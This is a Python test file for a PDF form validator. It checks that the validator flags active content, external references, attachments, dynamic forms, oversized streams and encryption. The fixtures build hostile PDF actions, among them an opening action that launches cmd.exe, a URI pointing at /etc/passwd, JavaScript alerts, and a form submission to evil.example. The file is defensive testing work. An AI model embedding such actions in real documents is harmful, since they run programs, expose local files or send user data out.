"""PDF forms that act, reach outside or hide something are told; nothing of them is ever run."""
from __future__ import annotations

import io
from collections.abc import Callable
from typing import Any

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, String

from contracts.forms.data import FormKind
from contracts.templates.findings import Fault, Trouble, at_field, at_page, in_file
from contracts.templates.pdf_form import check_pdf
from contracts.templates.variables import Stage
from tests.contracts_templates.pdf_makers import changed, one_field

GOOD = one_field('client.full_name')


def _check(content: bytes) -> list[Fault]:
    return check_pdf(content, FormKind.POS, Stage.CONTRACT)


def _script() -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=String('app.alert(1)'))


def _with_root(**values: Any) -> Callable[[pikepdf.Pdf], object]:
    def change(document: pikepdf.Pdf) -> None:
        for key, value in values.items():
            document.Root[f'/{key}'] = value
    return change


def _with_note(**values: Any) -> Callable[[pikepdf.Pdf], object]:
    def change(document: pikepdf.Pdf) -> None:
        document.pages[0].obj.Annots.append(document.make_indirect(Dictionary(
            Type=Name.Annot, Rect=[10, 10, 50, 50], **values)))
    return change


def _expanding(document: pikepdf.Pdf) -> None:
    document.pages[0].obj.Resources = Dictionary(XObject=Dictionary(Big=document.make_indirect(
        pikepdf.Stream(document, b' ' * 70_000_000))))


DANGEROUS: dict[str, tuple[Callable[[pikepdf.Pdf], object], Fault]] = {
    'script_of_the_document': (
        lambda document: document.Root.__setitem__('/Names', Dictionary(JavaScript=Dictionary(
            Names=Array([String('a'), _script()])))), in_file(Trouble.ACTIVE, most='50')),
    'script_on_opening': (_with_root(OpenAction=_script()), in_file(Trouble.ACTIVE, most='50')),
    'program_on_opening': (
        _with_root(OpenAction=Dictionary(S=Name.Launch, F=String('cmd.exe'))), in_file(Trouble.ACTIVE, most='50')),
    'address_on_opening': (
        _with_root(OpenAction=Dictionary(S=Name.URI, URI=String('file:///etc/passwd'))),
        in_file(Trouble.ACTIVE, most='50')),
    'script_of_a_page': (
        lambda document: document.pages[0].obj.__setitem__('/AA', Dictionary(O=_script())),
        in_file(Trouble.ACTIVE, most='50')),
    'calculation_of_a_field': (
        lambda document: document.pages[0].obj.Annots[0].__setitem__('/AA', Dictionary(C=_script())),
        at_field('client.full_name', Trouble.ACTIVE)),
    'action_of_a_field': (
        lambda document: document.pages[0].obj.Annots[0].__setitem__('/A', Dictionary(S=Name.GoTo, D=String('x'))),
        at_field('client.full_name', Trouble.ACTIVE)),
    'sending_of_the_form': (
        lambda document: document.pages[0].obj.Annots[0].__setitem__(
            '/A', Dictionary(S=Name.SubmitForm, F=String('https://evil.example/'))),
        at_field('client.full_name', Trouble.ACTIVE)),
    'attachment': (
        lambda document: document.Root.__setitem__('/Names', Dictionary(EmbeddedFiles=Dictionary(Names=Array()))),
        in_file(Trouble.ACTIVE, most='50')),
    'attachment_on_a_page': (
        _with_note(Subtype=Name.FileAttachment), at_page(1, Trouble.FOREIGN_NOTE, name='FileAttachment')),
    'sticky_note': (_with_note(Subtype=Name.Text), at_page(1, Trouble.FOREIGN_NOTE, name='Text')),
    'film': (_with_note(Subtype=Name.Screen), at_page(1, Trouble.FOREIGN_NOTE, name='Screen')),
    'link_to_the_web': (
        _with_note(Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String('https://bank.example/'))),
        at_page(1, Trouble.EXTERNAL_REFERENCE, name='https://bank.example/')),
    'link_to_a_file': (
        _with_note(Subtype=Name.Link, A=Dictionary(S=Name.GoToR, F=String('other.pdf'))),
        in_file(Trouble.ACTIVE, most='50')),
    'bookmark_to_the_web': (
        lambda document: document.Root.__setitem__('/Outlines', document.make_indirect(Dictionary(
            First=document.make_indirect(Dictionary(Title=String('a'), A=Dictionary(
                S=Name.URI, URI=String('https://bank.example/'))))))),
        in_file(Trouble.EXTERNAL_REFERENCE, name='https://bank.example/')),
    'content_kept_elsewhere': (
        lambda document: document.pages[0].obj.Contents.__setitem__('/F', String('//host/share/x')),
        in_file(Trouble.EXTERNAL_REFERENCE, name='/F')),
    'dynamic_form': (
        lambda document: document.Root.AcroForm.__setitem__('/XFA', String('<xdp/>')), in_file(Trouble.DYNAMIC_FORM)),
    'expanding_to_70_megabytes': (_expanding, in_file(Trouble.EXPANDS, most='50')),
}


@pytest.mark.parametrize('name', DANGEROUS)
def test_what_acts_or_reaches_outside_is_told(name: str) -> None:
    change, wanted = DANGEROUS[name]
    assert wanted in _check(changed(GOOD, change))


def test_links_inside_of_the_document_and_bookmarks_are_taken() -> None:
    linked = changed(GOOD, _with_note(Subtype=Name.Link, A=Dictionary(S=Name.GoTo, D=String('page1'))))
    assert _check(linked) == []


@pytest.mark.parametrize('user', ['', 'secret'])
def test_an_encrypted_file_is_told(user: str) -> None:
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(GOOD)) as document:
        document.save(out, encryption=pikepdf.Encryption(owner='owner', user=user))
    assert [fault.trouble for fault in _check(out.getvalue())] == [Trouble.ENCRYPTED]
